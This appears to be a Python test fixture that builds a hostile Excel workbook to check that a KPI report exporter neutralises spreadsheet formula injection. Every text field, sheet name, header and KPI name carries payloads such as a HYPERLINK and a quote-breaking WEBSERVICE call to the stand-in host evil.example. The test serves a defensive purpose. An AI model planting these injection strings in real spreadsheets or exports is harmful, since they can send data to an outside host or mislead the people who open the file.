"""A company whose every text tries to be a formula."""

from dataclasses import replace
from datetime import date

from kpi_core.catalogue import CATALOGUE
from kpi_core.dataset import prepare
from kpi_core.export.proof import proof_xlsx
from kpi_core.formula.parse import parse
from kpi_core.model import TableColumn
from tests.catalogue.small import small_part
from tests.compute.oracle import PARAMS

ATTACK = '=HYPERLINK("http://evil.example","x")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", " =")
TEXTS = tuple(f"{start}{ATTACK}" for start in STARTS)
CLOSING = '") + WEBSERVICE("http://evil.example") & ("'
"""Closes the text it stands in, where quotes are not doubled."""
TODAY = date(2026, 4, 1)
KPIS = ("revenue", "average_order_value", "customer_retention_rate", "revenue_per_sales_rep", "cross_sell_rate")


def lines():
    """Return order lines whose words are attacks; the key of a customer holds one too."""
    roles = [
        "order_id",
        "order_date",
        "customer_id",
        "net_amount",
        "refund_amount",
        "product_category",
        "rep",
        "channel",
    ]
    rows = [
        [f"{text}{month}", f"2026-0{month}-{day:02d}", text, 100.0 + day, 0.0, TEXTS[day % 8], text, CLOSING]
        for month in (1, 2, 3)
        for day, text in enumerate(TEXTS, start=1)
        if (day + month) % 3
    ]
    return roles, rows


def dataset():
    """Return the dataset; its headers, sheet and file are attacks as well."""
    roles, rows = lines()
    table, mapping = small_part("sales", roles, rows)
    columns = tuple(
        TableColumn(column.name, TEXTS[place % 8] + column.header, column.letter, column.type)
        for place, column in enumerate(table.columns)
    )
    table = replace(table, columns=columns, sheet=TEXTS[0])
    return prepare([(table, replace(mapping, sheet=TEXTS[0]))], sources=[TEXTS[3]])


def own_kpis():
    """Return KPIs that people named, with an attack in the formula as well."""
    plain = replace(CATALOGUE["revenue"], variants=(), optional=())
    closing = "sum(sales.net_amount where channel = '" + CLOSING + "')"
    function = "sum(sales.net_amount where channel not in ('=FILTER(A1:A9)', '{=1}', '" + 'x"' * 200 + "'))"
    return [
        replace(plain, id=f"own_{place}", name={"nl": text + "'!A1", "en": text}, formula=written, tree=parse(written))
        for place, (text, written) in enumerate(
            [
                *((text, closing) for text in TEXTS),
                ("'" * 40, function),
                ("[Book.xlsx]A", function),
                ("History", closing),
            ]
        )
    ]


def hostile_book():
    """Return the workbook of KPIs of the catalogue and own ones, for a client called an attack."""
    kpis = [*(CATALOGUE[name] for name in KPIS), *own_kpis()]
    return proof_xlsx(kpis, dataset(), "nl", client=TEXTS[0], notes=TEXTS, params=PARAMS, today=TODAY)
